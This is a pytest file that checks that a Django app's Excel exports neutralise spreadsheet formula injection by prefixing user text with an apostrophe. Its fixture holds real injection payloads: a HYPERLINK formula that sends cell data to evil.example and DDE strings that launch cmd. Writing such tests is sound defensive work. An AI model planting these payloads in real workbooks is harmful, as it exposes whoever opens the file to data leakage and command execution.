"""No text a user typed becomes a live formula in a workbook we write (issue 18, finding 12).

Both exports are read back with openpyxl: a cell is a formula only where the code writes one on
purpose (the ratio column of the statistics), and text starting with =, +, -, @, a tab or a
carriage return is kept as text by a leading apostrophe.
"""

from __future__ import annotations

import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common.spreadsheets import FORMULA_TRIGGERS, safe_text
from tests.factories import make_proposal

EVIL = {
    "agency": '=HYPERLINK("http://evil.example/"&A1,"点击")',
    "member": "+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "scope": "-2+3",
    "other_title": "\r=1+1",
    "other_member": "\t=1+1",
}
OWN_FORMULA = re.compile(r"^=IF\(C\d+=0,0,B\d+/C\d+\)$")


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_user_formula(content: bytes) -> list[str]:
    texts = []
    for cell in _cells(content):
        if cell.data_type == "f":
            assert OWN_FORMULA.match(str(cell.value)), cell.value
        elif isinstance(cell.value, str):
            assert cell.value[:1] not in FORMULA_TRIGGERS, cell.value
            texts.append(cell.value)
    return texts


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_text_keeps_a_formula_start_as_text(first):
    assert safe_text(first + "1+1") == "'" + first + "1+1"


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("关于加快产业合作的建议") == "关于加快产业合作的建议"
    assert safe_text("") == ""
    assert safe_text("1+1=2") == "1+1=2"


@pytest.fixture
def evil_world(world):
    world.agency_a.name = EVIL["agency"]
    world.agency_a.save()
    world.proposer.name = EVIL["member"]
    world.proposer.save()
    world.proposal.title = EVIL["title"]
    world.proposal.save()
    world.assignment.scope = EVIL["scope"]
    world.assignment.save()
    world.unrelated.name = EVIL["other_member"]
    world.unrelated.save()
    make_proposal(
        meeting=world.meeting, created_by=world.staff, first_proposer=world.unrelated, title=EVIL["other_title"]
    )
    return world


def test_proposal_export_writes_every_typed_text_as_text(evil_world, login):
    response = login(evil_world.staff).get(reverse("proposals:export"))
    assert response.status_code == 200
    texts = _assert_no_user_formula(response.getvalue())
    assert "'" + EVIL["title"] in texts
    # XML may read a carriage return back as a line feed; the apostrophe before it is what counts.
    assert {"'" + EVIL["other_title"], "'" + EVIL["other_title"].replace("\r", "\n")} & set(texts)
    assert any(t.startswith("'" + EVIL["other_member"]) for t in texts)  # 提案人 (+ "等" when joint)
    assert any(t.startswith("'" + EVIL["agency"]) for t in texts)  # 承办单位, with the role after the name


def test_statistics_workbook_writes_every_typed_text_as_text(evil_world, login):
    client = login(evil_world.staff)
    for params in ({}, {"part": "scorecard"}):
        response = client.get(reverse("oversight:statistics_xlsx", args=[evil_world.meeting.pk]), params)
        assert response.status_code == 200
        texts = _assert_no_user_formula(response.content)
        assert "'" + EVIL["agency"] in texts
